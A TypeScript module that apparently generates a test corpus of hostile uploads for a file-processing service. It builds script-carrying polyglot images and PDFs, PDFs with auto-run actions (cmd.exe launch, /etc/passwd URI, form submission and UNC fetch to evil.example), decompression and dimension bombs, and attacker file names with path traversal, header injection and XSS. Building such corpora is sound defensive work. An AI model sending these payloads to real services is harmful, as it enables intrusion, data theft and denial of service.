import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { active } from './active-texts.ts'
import { box, bytes, heic, pdf, u16, u32 } from './document-files.ts'

export type HostileFile = { sort: string; what: string; name: string; content: Buffer; forms: readonly string[] }
/** `forms`: the attacks that it shares with other files; without any, it is a form of its own. */
type Content = readonly [what: string, content: Buffer, ...forms: string[]]

/** In every script of the corpus: in a picture that is served, none of it is left. */
export const MARK = 'alert(8192)'

const latin = (text: string) => Buffer.from(text, 'latin1')
const join = (...parts: (Buffer | string)[]) =>
  Buffer.concat(parts.map(part => (typeof part === 'string' ? latin(part) : part)))
const HTML = `<!doctype html><html><body onload="${MARK}"><script>${MARK}</script></body></html>`
const SVG = `<svg xmlns="http://www.w3.org/2000/svg"><script>${MARK}</script></svg>`

const PNG_HEAD = bytes(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a)

const chunk = (type: string, data: Buffer) => {
  const body = join(type, data)
  return join(u32(data.length), body, u32(crc32(body)))
}
const header = (width: number, height: number, depth: number, color: number) =>
  chunk('IHDR', join(u32(width), u32(height), bytes(depth, color, 0, 0, 0)))
const pngOf = (...chunks: Buffer[]) => join(PNG_HEAD, ...chunks, chunk('IEND', Buffer.alloc(0)))

/** An archive of one stored file, with offsets from the start of the surrounding file. */
function zip(content: string, before = 0): Buffer {
  const [name, data] = [latin('evil.html'), latin(content)]
  const common = join(
    u16le(0),
    u16le(0),
    u16le(0),
    u16le(0),
    u32le(crc32(data)),
    u32le(data.length),
    u32le(data.length),
  )
  const local = join('PK\x03\x04', u16le(20), common, u16le(name.length), u16le(0), name, data)
  const place = join(u16le(name.length), Buffer.alloc(12), u32le(before))
  const directory = join('PK\x01\x02', u16le(20), u16le(20), common, place, name)
  const end = join(u16le(0), u16le(0), u16le(1), u16le(1), u32le(directory.length), u32le(before + local.length))
  return join(local, directory, 'PK\x05\x06', end, u16le(0))
}
const u16le = (value: number) => bytes(value & 255, value >> 8)
const u32le = (value: number) => Buffer.from(u32(value)).reverse()

/** Texts that a browser or a shell would run, plain and behind prefixes that mislead content sniffing. */
function texts(): Content[] {
  const fronts = { plain: '', bom: '\xef\xbb\xbf', blank: ' '.repeat(1200), comment: '<!-- GIF89a -->\n' }
  const utf16 = (text: string) => join('\xff\xfe', Buffer.from(text, 'utf16le'))
  return Object.entries(active(MARK)).flatMap(([what, text]) => [
    ...Object.entries(fronts).map(([front, before]) => [`${what}, ${front}`, join(before, text), what, front] as const),
    [`${what}, utf-16`, utf16(text), what, 'utf-16'] as const,
  ])
}

/** Beginnings of other kinds of files. */
const MAGIC: Record<string, string> = {
  zip: 'PK\x03\x04\x14\0\0\0\x08\0',
  gzip: '\x1f\x8b\x08\0\0\0\0\0\0\x03',
  '7z': '7z\xbc\xaf\x27\x1c\0\x04',
  rar: 'Rar!\x1a\x07\x01\0',
  exe: 'MZ\x90\0\x03\0\0\0',
  elf: '\x7fELF\x02\x01\x01\0',
  'mach-o': '\xcf\xfa\xed\xfe\x07\0\0\x01',
  class: '\xca\xfe\xba\xbe\0\0\0\x34',
  wasm: '\0asm\x01\0\0\0',
  gif: 'GIF89a\x01\0\x01\0',
  webp: 'RIFF\x24\0\0\0WEBPVP8 ',
  bmp: 'BM\x46\0\0\0\0\0',
  tiff: 'II*\0\x08\0\0\0',
  avif: '\0\0\0\x1cftypavif\0\0\0\0',
  mp4: '\0\0\0\x18ftypisom\0\0\0\0',
  ico: '\0\0\x01\0\x01\0\x10\x10',
  psd: '8BPS\0\x01\0\0',
  ole: '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1',
  swf: 'CWS\x0a\x10\0\0\0',
  sqlite: 'SQLite format 3\0',
  postscript: '%!PS-Adobe-3.0 EPSF-3.0\n',
  rtf: '{\\rtf1\\ansi ',
}
const wrongKinds = (): Content[] =>
  Object.entries(MAGIC).flatMap(([what, head]) => [
    [what, join(head, Buffer.alloc(64)), what, 'bare'] as const,
    [`${what} with html`, join(head, HTML), what, 'with html'] as const,
  ])

type Good = { pdf: Buffer; jpeg: Buffer; png: Buffer; heic: Buffer }

/** Two kinds of file in one: behind, before and within each good file. */
function polyglots(good: Good): Content[] {
  const payloads = { html: HTML, svg: SVG, php: `<?php ${MARK} ?>`, js: `/*`.concat(`*/${MARK}//`) }
  const within = (kind: keyof Good, text: string): Buffer => {
    const { jpeg, png } = good
    if (kind === 'jpeg')
      return join(jpeg.subarray(0, 2), bytes(0xff, 0xfe), u16(text.length + 2), text, jpeg.subarray(2))
    if (kind === 'png') return join(png.subarray(0, 33), chunk('tEXt', join(`Comment\0${text}`)), png.subarray(33))
    if (kind === 'heic') return heic(text)
    return pdf(text)
  }
  const kinds = Object.keys(good) as (keyof Good)[]
  const mixed = kinds.flatMap(kind =>
    Object.entries(payloads).flatMap(([what, text]): Content[] => [
      [`${kind} before ${what}`, join(good[kind], text), `${kind} before`, `before ${what}`],
      [`${what} before ${kind}`, join(text, '\n', good[kind]), `before ${kind}`, `${what} before`],
      [`${what} within ${kind}`, within(kind, text), `within ${kind}`, `${what} within`],
    ]),
  )
  const archives = kinds.map((kind): Content => [
    `${kind} that is a zip`,
    join(good[kind], zip(HTML, good[kind].length), kind === 'pdf' ? '\n%%EOF' : ''),
  ])
  return [...mixed, ...archives]
}

/** Content that a PDF reader may run when it opens the file. It is kept unchanged, and no browser of ours opens it in place. */
function activePdfs(): Content[] {
  const actions: Record<string, string> = {
    javascript: `/OpenAction<</S/JavaScript/JS(${MARK})>>`,
    launch: '/OpenAction<</S/Launch/F(cmd.exe)>>',
    uri: '/OpenAction<</S/URI/URI(file:///etc/passwd)>>',
    form: '/OpenAction<</S/SubmitForm/F(https://evil.example)>>',
    remote: '/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\x)>>',
    embedded: `/Names<</EmbeddedFiles<</Names[(x.html)<</EF<</F 2 0 R>>>>]>>>>`,
    media: '/AcroForm<</XFA 2 0 R>>',
    events: `/AA<</WC<</S/JavaScript/JS(${MARK})>>>>`,
    encrypted: '/Encrypt<</Filter/Standard/V 5>>',
    loop: '/Pages 1 0 R/Kids[1 0 R]/Parent 1 0 R',
  }
  const whole = Object.entries(actions).map(([what, action]): Content => [
    `pdf with ${what}`,
    join(`%PDF-1.7\n1 0 obj<</Type/Catalog${action}>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`),
    what,
  ])
  const cut = whole.map(([what, content]): Content => [`${what}, cut`, content.subarray(0, -6), 'pdf, cut'])
  return [...whole, ...cut]
}

/** Good files that are cut, and with one byte turned. */
function damaged(good: Good): Content[] {
  return (['jpeg', 'png', 'heic'] as const).flatMap(kind => {
    const whole = good[kind]
    return Array.from(
      { length: 12 },
      (_, part) => [part, Math.floor(((part + 0.5) / 12) * whole.length)] as const,
    ).flatMap(([part, at]): Content[] => {
      const turned = Buffer.from(whole)
      turned[at] = turned[at]! ^ 0xff
      return [
        [`${kind} cut at ${at}`, whole.subarray(0, at), `${kind} cut`, `cut in part ${part}`],
        [`${kind} turned at ${at}`, turned, `${kind} turned`, `turned in part ${part}`],
      ]
    })
  })
}

/** The JPEG, which says that it has other sides. */
export function withSides(jpeg: Buffer, width: number, height: number): Buffer {
  const copy = Buffer.from(jpeg)
  const frame = copy.findIndex((one, at) => one === 0xff && (copy[at + 1] === 0xc0 || copy[at + 1] === 0xc2))
  copy.writeUInt16BE(height, frame + 5)
  copy.writeUInt16BE(width, frame + 7)
  return copy
}

/** Small files that would become large, or take long. */
function bombs(good: Good): Content[] {
  const zeros = deflateSync(Buffer.alloc(30_000_000))
  const stream = deflateSync(Buffer.alloc(50_000_000))
  const data = chunk('IDAT', deflateSync(Buffer.alloc(4096)))
  const sides = [
    [60_000, 60_000],
    [2 ** 31 - 1, 2 ** 31 - 1],
    [1, 2 ** 31 - 1],
    [8_000, 8_000],
    [61_000_000, 1],
  ] as const
  const jpegOf = (width: number, height: number) => withSides(good.jpeg, width, height)
  const ftyp = box('ftyp', latin('heic'), u32(0))
  const iinf = box(
    'iinf',
    bytes(0, 0, 0, 0),
    u16(1),
    box('infe', bytes(2, 0, 0, 0), u16(1), u16(0), latin('Exif'), bytes(0)),
  )
  const heicOf = (...parts: Buffer[]) => join(ftyp, box('meta', bytes(0, 0, 0, 0), ...parts))
  // An extent of an item without sizes takes no bytes.
  const endless = join(u16(1), u16(0), u16(65_535))
  const wide = join(u32(0), u32(2_000_000))
  const [many, overlapping] = [
    join(bytes(0, 0, 0, 0), bytes(0, 0), u16(65_535), ...Array<Buffer>(65_535).fill(endless)),
    join(bytes(0, 0, 0, 0), bytes(0x44, 0), u16(1), u16(1), u16(0), u16(9_000), ...Array<Buffer>(9_000).fill(wide)),
  ]
  return [
    [
      'pdf bomb',
      join(`%PDF-1.4\n1 0 obj<</Filter/FlateDecode/Length ${stream.length}>>stream\n`, stream, '\nendstream\n%%EOF'),
    ],
    ['pdf, nested', join('%PDF-1.4\n', '<</Kids['.repeat(100_000), '\n%%EOF')],
    ...sides.map(([w, h]): Content => [`png of ${w} × ${h}`, pngOf(header(w, h, 8, 2), data)]),
    ...sides.slice(0, 3).map(([w, h]): Content => [`grey png of ${w} × ${h}`, pngOf(header(w, h, 1, 0), data)]),
    ['png whose data are longer than its sides', pngOf(header(10, 10, 8, 2), chunk('IDAT', zeros))],
    ['png with a text that grows', pngOf(header(10, 10, 8, 2), chunk('zTXt', join('a\0\0', zeros)), data)],
    ['png with a profile that grows', pngOf(header(10, 10, 8, 2), chunk('iCCP', join('a\0\0', zeros)), data)],
    [
      'png with many chunks',
      pngOf(header(10, 10, 8, 2), ...Array<Buffer>(20_000).fill(chunk('tEXt', join('a\0b'))), data),
    ],
    ['png head alone', join(PNG_HEAD, Buffer.alloc(40))],
    ['jpeg of 65 500 × 65 500', jpegOf(65_500, 65_500)],
    ['jpeg of 1 × 65 500', jpegOf(1, 65_500)],
    ['jpeg head alone', join(good.jpeg.subarray(0, 20), Buffer.alloc(40))],
    [
      'jpeg of comments',
      join('\xff\xd8', ...Array<Buffer>(20_000).fill(join('\xff\xfe\x00\x04ab')), good.jpeg.subarray(2)),
    ],
    ['heic without items', join(ftyp, HTML)],
    ['heic with an endless box', join(ftyp, u32(1), 'meta', Buffer.alloc(64, 0xff))],
    ['heic with a box of no size', join(ftyp, u32(4), 'meta', Buffer.alloc(64))],
    ['heic of a hundred thousand boxes', join(ftyp, ...Array<Buffer>(100_000).fill(box('free')))],
    ['heic with four milliard extents', heicOf(iinf, box('iloc', many))],
    [
      'heic with extents that overlap',
      join(heicOf(iinf, box('iloc', overlapping)), box('mdat', Buffer.alloc(2_100_000))),
    ],
    [
      'heic with an extent outside',
      heicOf(iinf, box('iloc', bytes(0, 0, 0, 0), bytes(0x44, 0), u16(1), u16(1), u16(0), u16(1), u32(9_999), u32(99))),
    ],
    [
      'heic whose metadata are made of others',
      heicOf(
        iinf,
        box('iloc', bytes(1, 0, 0, 0), bytes(0x44, 0), u16(1), u16(1), u16(2), u16(0), u16(1), u32(0), u32(1)),
      ),
    ],
    [
      'heic with script beside its boxes',
      heic('place', { after: [box('free', latin(HTML)), box('uuid', latin(SVG))] }),
    ],
  ]
}

/** Names that an attacker sends with a file: outside places, hidden characters, other endings. */
const NAMES = [
  '../../etc/passwd',
  '..\\..\\windows\\system32\\x.dll',
  '/etc/cron.d/evil',
  'C:\\autorun.inf',
  'paper.pdf .html',
  'paper.pdf\r\nset-cookie: x=1',
  'paper.html',
  'paper.svg',
  'invoice\u202Efdp.exe',
  '.htaccess',
  '"; filename="evil.html',
  '%2e%2e%2fpasswd',
  'a'.repeat(190),
  '<img src=x onerror=alert(1)>.pdf',
  'CON',
]

/** More than three hundred files, all different, the same each time. Each has one of the names. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const picture = sharp({ create: { width: 60, height: 40, channels: 3, background: 'navy' } })
  const jpeg = await picture.clone().jpeg().toBuffer()
  const png = await picture.clone().png().toBuffer()
  const good: Good = { pdf: pdf(), jpeg, png, heic: heic('place') }
  const sorts: Record<string, Content[]> = {
    bytes: [
      ['one byte', bytes(0)],
      ['two bytes', bytes(0xff, 0xd8)],
    ],
    texts: texts(),
    'wrong kinds': wrongKinds(),
    polyglots: polyglots(good),
    'active pdfs': activePdfs(),
    damaged: damaged(good),
    bombs: bombs(good),
  }
  const contents = Object.entries(sorts).flatMap(([sort, some]) => some.map(content => [sort, ...content] as const))
  return contents.map(([sort, what, content, ...forms], row) => {
    const ownForms = (forms.length > 0 ? forms : [what]).map(form => `${sort}: ${form}`)
    return { sort, what, name: NAMES[row % NAMES.length]!, content, forms: ownForms }
  })
}

/** Each form once: the files whose form no earlier file has. */
export function eachFormOnce(files: readonly HostileFile[]): HostileFile[] {
  const seen = new Set<string>()
  return files.filter(({ forms }) => {
    const isNew = forms.some(form => !seen.has(form))
    for (const form of forms) seen.add(form)
    return isNew
  })
}
